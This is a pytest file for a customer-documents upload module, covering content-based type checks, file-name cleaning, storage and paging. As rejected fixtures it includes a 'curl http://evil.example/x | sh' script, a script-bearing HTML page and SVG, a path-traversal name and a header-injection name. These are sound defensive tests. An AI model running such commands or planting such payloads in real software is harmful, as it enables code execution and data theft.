"""Documents: what an upload accepts, how it is stored, and how the list pages."""

from __future__ import annotations

import hashlib
import re
import struct
import zlib
from datetime import timedelta

import pytest
from sqlalchemy import func, select

from app import documents
from app.pagination import encode_cursor
from app.params import ParamError
from app.tables import customer_activities
from app.tables import documents as documents_table
from tests.factories import NOW, add_customer, add_document, add_vehicle, add_work_order_and_invoice

PDF = (
    b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
    b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
    b"trailer <</Root 1 0 R>>\n%%EOF\n"
)


def png_1x1() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


PNG = png_1x1()
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(64) + b"\xff\xd9"
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(32)
HEIC = struct.pack(">I", 24) + b"ftypheic" + bytes(4) + b"mif1heic" + bytes(64)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)
HTML = b"<!doctype html><html><script>fetch('/customers').then(r => r.text())</script></html>"
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.mark.parametrize(
    ("name", "data", "content_type", "kept_as"),
    [
        ("facture.pdf", PDF, "application/pdf", "facture.pdf"),
        ("SCAN.PDF", PDF, "application/pdf", "SCAN.PDF"),
        ("IMG_0042.jpeg", JPEG, "image/jpeg", "IMG_0042.jpeg"),
        ("pare-brise.png", PNG, "image/png", "pare-brise.png"),
        ("photo.webp", WEBP, "image/webp", "photo.webp"),
        ("IMG_0043.HEIC", HEIC, "image/heic", "IMG_0043.HEIC"),
        # The name does not decide: the content's type does, and the kept name says it.
        ("photo.pdf", JPEG, "image/jpeg", "photo.jpg"),
        ("estimate.png", PDF, "application/pdf", "estimate.pdf"),
        ("scan", PDF, "application/pdf", "scan.pdf"),
        ("invoice.exe", PDF, "application/pdf", "invoice.exe.pdf"),
        ("Rapport v1.2", PDF, "application/pdf", "Rapport v1.2.pdf"),
    ],
)
def test_an_allowed_type_is_recognised_from_the_content(name, data, content_type, kept_as):
    upload = documents.check_upload(name, data)
    assert (upload.content_type, upload.filename) == (content_type, kept_as)
    assert upload.data == data


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("facture.pdf", EXE),
        ("facture.pdf", HTML),
        ("bon-de-travail.pdf", SCRIPT),
        ("logo.png", SVG),
        ("notes.txt", b"plain text is not accepted"),
        ("archive.pdf", b"PK\x03\x04" + bytes(64)),
    ],
)
def test_content_of_another_type_is_refused_whatever_its_name(name, data):
    with pytest.raises(documents.UploadError) as refused:
        documents.check_upload(name, data)
    assert refused.value.field == "file"
    assert f"“{name}” is not a PDF, JPEG, PNG, WebP or HEIC file" in refused.value.message


def test_an_empty_file_is_refused():
    with pytest.raises(documents.UploadError, match=re.escape("“vide.pdf” is empty")):
        documents.check_upload("vide.pdf", b"")


def test_a_file_over_the_limit_is_refused_and_the_limit_is_given():
    data = PDF + bytes(documents.MAX_FILE_BYTES - len(PDF) + 1)
    with pytest.raises(documents.UploadError, match="larger than 10 MB, the limit per file"):
        documents.check_upload("big.pdf", data)
    assert documents.check_upload("just-right.pdf", data[:-1]).size_bytes == documents.MAX_FILE_BYTES


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\marie\\Desktop\\scan.pdf", "scan.pdf"),
        ('facture "été".pdf', "facture été.pdf"),
        ("ligne\r\nContent-Type: text-html.pdf", "ligne Content-Type text-html.pdf"),
        ("\u202efdp.exe", "fdp.exe"),  # a right-to-left override would show it as "exe.pdf"
        ("  ..hidden.pdf  ", "hidden.pdf"),
        ("tab\tand\x00nul.pdf", "tab andnul.pdf"),
        ("Re\u0301sume\u0301.pdf", "Résumé.pdf"),  # composed, as it is typed
        ("...", ""),
    ],
)
def test_file_names_are_cleaned(sent, kept):
    assert documents.clean_filename(sent) == kept


def test_a_long_name_keeps_its_extension():
    name = documents.clean_filename("a" * 400 + ".pdf")
    assert len(name) == 255 and name.endswith("a.pdf")


@pytest.mark.parametrize(
    ("name", "fallback"),
    [
        ("facture été.pdf", "facture ete.pdf"),
        ("報告.pdf", "document.pdf"),
        ("plain.pdf", "plain.pdf"),
        ("ünïcödé", "unicode"),
    ],
)
def test_the_ascii_fallback_name_for_old_clients(name, fallback):
    assert documents.ascii_filename(name) == fallback


@pytest.mark.parametrize(
    ("size", "english", "french"),
    [
        (0, "0 B", "0 octets"),
        (1023, "1023 B", "1023 octets"),
        (1536, "1.5 KB", "1,5\u00a0Ko"),
        (10 * 1024 * 1024, "10 MB", "10\u00a0Mo"),
        (123_456_789, "118 MB", "118\u00a0Mo"),
    ],
)
def test_sizes_read_as_people_say_them(size, english, french):
    assert documents.human_size(size) == english
    assert documents.human_size(size, "fr") == french


@pytest.mark.parametrize(
    "key", ["../../etc/passwd", "ABCDEF0123456789ABCDEF0123456789", "0" * 31, "0" * 33, ""]
)
def test_only_a_storage_key_names_a_file(tmp_path, key):
    with pytest.raises(ValueError):
        documents.storage_path(tmp_path, key)
    assert documents.storage_path(tmp_path, "0123456789abcdef" * 2) == tmp_path / ("0123456789abcdef" * 2)


# -- storing --------------------------------------------------------------------------------------------


async def counts(engine) -> tuple[int, int]:
    async with engine.connect() as conn:
        rows = (await conn.execute(select(func.count()).select_from(documents_table))).scalar_one()
        events = (
            await conn.execute(
                select(func.count())
                .select_from(customer_activities)
                .where(customer_activities.c.kind == "document_uploaded")
            )
        ).scalar_one()
    return rows, events


async def test_an_upload_keeps_the_bytes_under_a_random_name_with_their_digest(engine, tmp_path):
    async with engine.begin() as conn:
        customer_id = await add_customer(conn, "Marie", "Tremblay")
    directory = tmp_path / "documents"
    uploads = [documents.check_upload("facture.pdf", PDF), documents.check_upload("photo.pdf", PNG)]
    async with engine.begin() as conn:
        added = await documents.add_documents(conn, customer_id, uploads, directory=directory, actor_id=None)

    assert sorted(path.name for path in directory.iterdir()) == sorted(added.storage_keys)
    async with engine.connect() as conn:
        page = await documents.load_documents(conn, customer_id)
        for document_id, key, data in zip(added.document_ids, added.storage_keys, (PDF, PNG), strict=True):
            stored = await documents.get_stored_document(conn, customer_id, document_id)
            assert stored.storage_key == key and len(key) == 32
            assert (directory / key).read_bytes() == data
            assert stored.sha256 == hashlib.sha256(data).hexdigest()
            assert stored.size_bytes == len(data)
    assert {(d.filename, d.content_type) for d in page.documents} == {
        ("facture.pdf", "application/pdf"),
        ("photo.png", "image/png"),
    }
    assert await counts(engine) == (2, 2)
    assert len(added.events) == 2 and all(customer == customer_id for customer, _ in added.events)


async def test_a_failed_insert_takes_the_written_files_away(engine, tmp_path):
    directory = tmp_path / "documents"
    uploads = [documents.check_upload("facture.pdf", PDF)]
    with pytest.raises(Exception):  # noqa: B017 -- the driver's IntegrityError: there is no customer 999999
        async with engine.begin() as conn:
            await documents.add_documents(conn, 999_999, uploads, directory=directory, actor_id=None)
    assert list(directory.iterdir()) == []
    assert await counts(engine) == (0, 0)


async def test_storage_that_cannot_be_written_leaves_no_row(engine, tmp_path):
    async with engine.begin() as conn:
        customer_id = await add_customer(conn, "Marie", "Tremblay")
    not_a_directory = tmp_path / "documents"
    not_a_directory.write_text("a file where the directory should be")
    uploads = [documents.check_upload("facture.pdf", PDF)]
    with pytest.raises(documents.StorageError):
        async with engine.begin() as conn:
            await documents.add_documents(
                conn, customer_id, uploads, directory=not_a_directory, actor_id=None
            )
    assert await counts(engine) == (0, 0)
    assert [path.name for path in tmp_path.iterdir()] == ["documents"]  # no temporary file left either


# -- listing --------------------------------------------------------------------------------------------


async def test_the_list_pages_newest_first_with_a_keyset_cursor(engine):
    async with engine.begin() as conn:
        customer_id = await add_customer(conn, "Marie", "Tremblay")
        other_id = await add_customer(conn, "John", "Smith")
        vehicle_id = await add_vehicle(conn, customer_id, vin="2T3W1RFV8KC012345", plate="ABC 123")
        await add_work_order_and_invoice(conn, customer_id, vehicle_id, number=7)
        expected = []
        for index in range(30):
            # Pairs share an instant: the id breaks the tie, and the pages neither skip nor repeat one.
            uploaded_at = NOW - timedelta(hours=index // 2)
            document_id = await add_document(
                conn, customer_id, filename=f"doc-{index:02d}.pdf", uploaded_at=uploaded_at
            )
            expected.append((uploaded_at, document_id))
        await add_document(conn, other_id, filename="not-marie.pdf", uploaded_at=NOW + timedelta(days=1))
    expected.sort(reverse=True)

    async with engine.connect() as conn:
        first = await documents.load_documents(conn, customer_id)
        assert len(first.documents) == documents.PAGE_SIZE and first.next_cursor is not None
        assert [wo.number for wo in first.work_orders] == ["WO-2026-000007"]
        second = await documents.load_documents(conn, customer_id, cursor=first.next_cursor)
        assert second.next_cursor is None and second.work_orders == []
    seen = [(d.uploaded_at, d.id) for d in first.documents + second.documents]
    assert seen == expected
    assert "not-marie.pdf" not in {d.filename for d in first.documents + second.documents}


@pytest.mark.parametrize(
    "cursor",
    [encode_cursor("yesterday", 1), encode_cursor("2026-06-01T15:30:00", 1), "forged", encode_cursor(1)],
)
async def test_a_cursor_this_server_did_not_make_is_refused(engine, cursor):
    async with engine.connect() as conn:
        with pytest.raises(ParamError) as refused:
            await documents.load_documents(conn, 1, cursor=cursor)
    assert refused.value.name == "cursor"


async def test_a_document_is_found_only_under_its_own_customer(engine):
    async with engine.begin() as conn:
        marie = await add_customer(conn, "Marie", "Tremblay")
        john = await add_customer(conn, "John", "Smith")
        document_id = await add_document(conn, marie, filename="facture.pdf")
    async with engine.connect() as conn:
        assert (await documents.get_document(conn, marie, document_id)).filename == "facture.pdf"
        assert await documents.get_document(conn, john, document_id) is None
        assert await documents.get_stored_document(conn, john, document_id) is None


async def test_a_work_order_of_another_customer_cannot_be_attached(engine):
    async with engine.begin() as conn:
        marie = await add_customer(conn, "Marie", "Tremblay")
        john = await add_customer(conn, "John", "Smith")
        vehicle_id = await add_vehicle(conn, john, vin="2T3W1RFV8KC012345", plate="ABC 123")
        await add_work_order_and_invoice(conn, john, vehicle_id, number=8)
    async with engine.connect() as conn:
        (johns_order,) = (await documents.load_documents(conn, john)).work_orders
        assert await documents.check_work_order(conn, john, str(johns_order.id)) == johns_order.id
        assert await documents.check_work_order(conn, marie, "") is None
        for value in (str(johns_order.id), "abc", "-1"):
            with pytest.raises(documents.UploadError) as refused:
                await documents.check_work_order(conn, marie, value)
            assert refused.value.field == "work_order_id"
